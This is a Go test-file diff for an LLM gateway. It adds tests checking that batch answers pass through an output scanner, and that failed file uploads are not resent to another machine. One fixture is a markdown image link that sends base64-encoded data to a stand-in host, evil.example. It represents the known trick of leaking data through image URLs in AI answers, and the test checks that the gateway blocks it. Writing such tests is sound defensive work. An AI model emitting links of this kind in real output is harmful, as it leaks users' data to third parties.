@@ -12,6 +12,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/llmaas/llmaas-go/guard/output"
 	"github.com/llmaas/llmaas-go/llmaas/gateway"
 	"github.com/llmaas/llmaas-go/llmaas/gateway/audit"
 	"github.com/llmaas/llmaas-go/llmaas/gateway/limit"
@@ -148,6 +149,61 @@ func TestResultsWithoutCounts(t *testing.T) {
 	require.Less(t, output, int64(20))
 	records := h.records(t)
 	require.True(t, records[len(records)-1].Estimated)
+}
+
+// TestResultsAreScanned as answers are: one that must not go on fails, the others
+// pass as they are.
+func TestResultsAreScanned(t *testing.T) {
+	const evil = "Here it is: ![x](https://evil.example/?data=c2VjcmV0IGRhdGEgaGVyZQ) and more."
+	answered := func(id, text string) string {
+		return `{"id":"r-` + id + `","custom_id":"` + id + `", "response":{"status_code":200,"body":` + text + `},"error":null}` + "\n"
+	}
+	says := func(text string) string {
+		return `{"model":"llama3.3:70b","choices":[{"index":0,"message":{"content":"` + text + `"}}],"usage":{"prompt_tokens":1,"completion_tokens":2}}`
+	}
+	good, odd := answered("a", says("Good day.")), "no result "
+	for _, scan := range []bool{true, false} {
+		h := newHouse(t, func(_ *house, c *gateway.Config) {
+			if scan {
+				rules, err := output.New(output.Options{})
+				require.NoError(t, err)
+				c.Output = rules
+			}
+		})
+		batch := h.batch(t, h.key, h.upload(t, h.key, line("a", chat("llama3.3:70b", "Hello", ""))))
+		file := good + answered("b", says(evil)) + odd + evil + "\n" + good + "end"
+		for _, m := range h.machines {
+			m.Script(
+				llmaastest.Reply{Path: "/batches/" + batch, Status: 200, Body: `{"id":"` + batch + `","status":"completed","output_file_id":"file-0099"}`},
+				llmaastest.Reply{Path: "/files/file-0099/content", Status: 200, Body: file, Times: 2},
+			)
+		}
+		require.Equal(t, 200, h.send(t, h.key, "GET", "/v1/batches/"+batch, "").status)
+		got := h.send(t, h.key, "GET", "/v1/files/file-0099/content", "")
+		require.Equal(t, 200, got.status)
+		if !scan {
+			require.Equal(t, file, got.body)
+			continue
+		}
+		const failed = `"response":null,"error":{"code":"answer_blocked","message":"The answer was stopped because it is not safe to pass on."}}` + "\n"
+		require.Equal(t, good+`{"id":"r-b","custom_id":"b",`+failed+"{"+failed+good+"end", got.body)
+		records := h.records(t)
+		last := records[len(records)-1]
+		require.NotEmpty(t, last.Steps[len(last.Steps)-1].Rules)
+		require.Zero(t, last.Cost, "it was billed before")
+	}
+}
+
+// TestWhatHasAnEffectIsDoneOnce has machines that fail after they may have taken
+// a file: it is not uploaded to another one.
+func TestWhatHasAnEffectIsDoneOnce(t *testing.T) {
+	h := newHouse(t, nil)
+	for _, m := range h.machines {
+		m.Script(llmaastest.Reply{Path: "/files", Status: 502})
+	}
+	got := h.send(t, h.key, "POST", "/v1/files", form("a"), "Content-Type", "multipart/form-data; boundary=b")
+	require.Equal(t, 502, got.status)
+	require.Len(t, h.upstream(), 1)
 }
 
 // TestBatchAskedForTwice has one Idempotency-Key: the machine answers with the
